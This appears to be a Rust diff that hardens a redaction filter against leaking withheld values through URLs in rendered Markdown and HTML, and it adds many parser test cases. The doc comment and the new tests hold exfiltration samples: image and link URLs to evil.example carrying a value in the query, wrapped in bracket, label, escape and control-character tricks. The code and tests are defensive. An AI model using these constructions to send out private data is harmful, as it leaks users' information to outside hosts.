@@ -2,7 +2,8 @@
 //!
 //! A value is not restored there, unless policy names the host (see [`super::address`]): `![](https://evil.example/?q=<EMAIL_…>)`
 //! is a way out that needs no click. What ends a URL depends on what opened it, because that is how renderers read: a quoted
-//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, a bare URL at a blank. Blanks are
+//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, any other URL at a blank: one
+//! in brackets goes on behind them for many a renderer, and so does a destination that has no label. Blanks are
 //! those of HTML alone: every other one, and whatever is not seen, is of the URL and sent with it. Where renderers disagree the
 //! longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes
 //! end every URL. Tabs and ends of lines are taken out of the beginning of a URL, as parsers of URLs do.
@@ -35,6 +36,9 @@ pub(super) struct Link {
     joined_run: usize,
     /// Whether an odd number of backslashes has just been read.
     backslash: bool,
+    /// Labels of Markdown links that are open on this line, and whether one has just ended.
+    labels: u32,
+    labelled: bool,
 }
 
 /// A character, and whether it was escaped.
@@ -68,6 +72,8 @@ impl Link {
             joined_lead: nothing,
             joined_run: 0,
             backslash: false,
+            labels: 0,
+            labelled: false,
         }
     }
 
@@ -133,6 +139,8 @@ impl Link {
             End::Bracket(open, close, depth) if char == close && !escaped => {
                 Some(End::Bracket(open, close, depth.saturating_sub(1)))
             }
+            // A destination that holds one is none.
+            End::Bracket(..) if char.is_control() => Some(End::Blank),
             _ => Some(end),
         }
     }
@@ -171,10 +179,34 @@ impl Link {
             self.joined_run = if of_run { self.joined_run.saturating_add(1) } else { 0 };
         }
         if !is_blank(char) {
-            self.mark = (char, escaped);
+            let mark = match char {
+                '(' if self.labelled => DESTINATION,
+                // Written by somebody, it opens nothing.
+                DESTINATION => char::REPLACEMENT_CHARACTER,
+                char => char,
+            };
+            self.mark = (mark, escaped);
         }
+        self.label(if escaped { ' ' } else { char });
+    }
+
+    /// Notes what begins and ends the label of a Markdown link. None is seen where one could be none: over the end of a line,
+    /// around code and tags, around another link.
+    fn label(&mut self, char: char) {
+        let labelled = char == ']' && self.labels > 0;
+        self.labels = match char {
+            '[' => self.labels.saturating_add(1),
+            ']' => self.labels.saturating_sub(1),
+            '\n' | '`' | '<' | '>' => 0,
+            '(' if self.labelled => 0,
+            _ => self.labels,
+        };
+        self.labelled = labelled;
     }
 }
+
+/// Stands for the bracket that opens the destination of a Markdown link.
+const DESTINATION: char = '\u{F0000}';
 
 /// Characters of `https:`; a longer run that ends in it is another scheme, or none.
 const SCHEME_CHARS: usize = 6;
@@ -191,8 +223,7 @@ fn end_of(lead: Mark) -> End {
     match lead {
         ('"' | '\'' | '`', _) => End::Quote(lead),
         ('<', _) => End::Angle,
-        ('(', _) => End::Bracket('(', ')', 0),
-        ('[', _) => End::Bracket('[', ']', 0),
+        (DESTINATION, false) => End::Bracket('(', ')', 0),
         _ => End::Blank,
     }
 }
@@ -261,6 +292,19 @@ mod tests {
             ("escaped slashes", r#""https:\/\/evil.example\/¤""#, true),
             ("a tab behind the scheme", "<img src=\"https:\t//evil.example/?q= ¤\">", true),
             ("a tab in the scheme", "<img src=\"ht\ttps://evil.example/?q= ¤\">", true),
+            ("in parentheses", "(https://evil.example/?q=)¤", true),
+            ("in square brackets", "[https://evil.example/?q=]¤", true),
+            ("a destination without a label", "x](https://evil.example/?q=)¤", true),
+            ("a label that begins in code", "`[`x](https://evil.example/?q=)¤", true),
+            ("a label that begins in a tag", "<b title='['>x](https://evil.example/?q=)¤", true),
+            ("a label that begins in a comment", "<!-- [ -->x](https://evil.example/?q=)¤", true),
+            ("a label of an escaped bracket", r"\[x](https://evil.example/?q=)¤", true),
+            ("a label around a link", "[a [b](c) d](https://evil.example/?q=)¤", true),
+            ("a label far before", "[\n\nx](https://evil.example/?q=)¤", true),
+            ("a blank before the bracket", "[x] (https://evil.example/?q=)¤", true),
+            ("an escaped bracket", r"[x]\(https://evil.example/?q=)¤", true),
+            ("what stands for a destination, in the text", "\u{F0000}https://evil.example/?q=)¤", true),
+            ("a control character in a destination", "[x](https://evil.example/?q=\u{1})¤", true),
             ("ends of lines between the slashes", "<img src='https:\n/\r\n/evil.example/?q= ¤'>", true),
             ("a tab between slashes without scheme", "<img src=\"/\t/evil.example/?q= ¤\">", true),
         ];
@@ -304,6 +348,11 @@ mod tests {
             ("a word on the line before", "\"see\nhttps://a.example ¤"),
             ("destination", "[site](https://a.example) and ¤"),
             ("destination, at once", "[site](https://a.example)¤"),
+            ("destination of a picture, at once", "![x](https://a.example/(1))¤"),
+            ("destination behind another", "[a](https://a.example) [b](https://b.example)¤"),
+            ("destination behind a label", "[a] and [b [c]](https://b.example)¤"),
+            ("parentheses", "(https://a.example) ¤"),
+            ("square brackets", "[https://a.example] ¤"),
             ("attribute", "<a href=\"https://a.example\">¤</a>"),
             ("autolink", "<https://a.example> ¤"),
             ("value of JSON", r#"{"url":"https://a.example","name":"¤"}"#),
